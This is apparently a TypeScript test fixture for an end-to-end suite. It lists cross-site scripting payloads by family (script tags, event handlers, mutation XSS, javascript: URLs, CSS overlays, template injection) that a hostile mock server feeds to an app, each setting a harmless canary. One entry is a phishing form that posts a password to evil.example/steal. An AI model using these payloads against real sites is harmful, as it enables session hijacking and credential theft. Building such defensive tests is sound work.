/**
 * Payloads a hostile or careless server could put into its answers, by family. Each that ran
 * would set `localStorage.__xss` (it outlives a reload, so a payload that ran just before the
 * app left a page is still seen). Replayed through the mock's hostile mode (mocks/hostile) by
 * tests/e2e/hostile-server.spec.ts.
 */
const canary = (id: number) => `localStorage.__xss=${id}`;

export const textPayloads: { family: string; html: string }[] = [
  // Script elements, plain and disguised.
  { family: 'script', html: `<script>${canary(1)}</script>` },
  { family: 'script', html: `<ScRiPt>${canary(2)}</sCrIpT>` },
  { family: 'script', html: `<script src="data:text/javascript,${canary(3)}"></script>` },
  { family: 'script', html: `"><script>${canary(4)}</script>` },
  { family: 'script', html: `</textarea><script>${canary(5)}</script>` },
  { family: 'script', html: `</title><script>${canary(6)}</script>` },
  // Event handlers.
  { family: 'handler', html: `<img src=x onerror=${canary(7)}>` },
  { family: 'handler', html: `<svg onload=${canary(8)}>` },
  { family: 'handler', html: `<body onload=${canary(9)}>` },
  { family: 'handler', html: `<details open ontoggle=${canary(10)}>` },
  { family: 'handler', html: `<input autofocus onfocus=${canary(11)}>` },
  { family: 'handler', html: `<video><source onerror=${canary(12)}></video>` },
  { family: 'handler', html: `<svg><animate onbegin=${canary(13)} attributeName=x dur=1s>` },
  { family: 'handler', html: `<marquee onstart=${canary(14)}>x</marquee>` },
  // Frames and plugins.
  { family: 'frame', html: `<iframe srcdoc="<script>parent.${canary(15)}</script>"></iframe>` },
  { family: 'frame', html: `<object data="javascript:${canary(16)}"></object>` },
  { family: 'frame', html: `<embed src="javascript:${canary(17)}">` },
  // Mutation XSS: markup that changes meaning when re-parsed.
  { family: 'mxss', html: `<noscript><p title="</noscript><img src=x onerror=${canary(18)}>">` },
  { family: 'mxss', html: `<math><mtext><table><mglyph><style><img src=x onerror=${canary(19)}>` },
  { family: 'mxss', html: `<svg></p><style><a id="</style><img src=x onerror=${canary(20)}>">` },
  // Script addresses in links, images and forms.
  { family: 'url', html: `<a href="javascript:${canary(21)}">a</a>` },
  { family: 'url', html: `<a href="&#106;avascript:${canary(22)}">b</a>` },
  { family: 'url', html: `<a href=" JaVaScRiPt:${canary(23)}">c</a>` },
  { family: 'url', html: `<a href="data:text/html,<script>${canary(24)}</script>">d</a>` },
  { family: 'url', html: `<img src="javascript:${canary(25)}">` },
  { family: 'url', html: `<form action="javascript:${canary(26)}"><button>go</button></form>` },
  // CSS that takes over the page.
  {
    family: 'css',
    html: '<style>body::after{content:"";position:fixed;inset:0;z-index:2147483647}</style>',
  },
  {
    family: 'css',
    html: '<div style="position:fixed;inset:0;z-index:2147483647;background:rgba(255,0,0,.01)">x</div>',
  },
  { family: 'css', html: '<link rel=stylesheet href="data:text/css,body{display:none}">' },
  // Phishing forms and document-level tags.
  {
    family: 'form',
    html: '<form action="https://evil.example/steal" method=post><input name=senha type=password><button>Entrar</button></form>',
  },
  { family: 'form', html: `<meta http-equiv="refresh" content="0;url=javascript:${canary(31)}">` },
  { family: 'form', html: '<base href="https://evil.example/">' },
  // Template syntaxes some front ends evaluate.
  { family: 'template', html: `{{constructor.constructor('${canary(33)}')()}}` },
  { family: 'template', html: `\${${canary(34)}}` },
];

/** Addresses for the fields the app links to or navigates to. */
export const addressPayloads = [
  `javascript:${canary(101)}`,
  ` JaVaScRiPt:${canary(102)}`,
  `java\tscript:${canary(103)}`,
  `data:text/html,<script>opener.${canary(104)}</script>`,
  'vbscript:msgbox(105)',
  `javascript://%0a${canary(106)}`,
];

/** One text for the mock's hostile mode: every payload, each after a marker the test can find. */
export const allTextPayloads = textPayloads.map((payload) => ` ⚠${payload.html}`).join('');
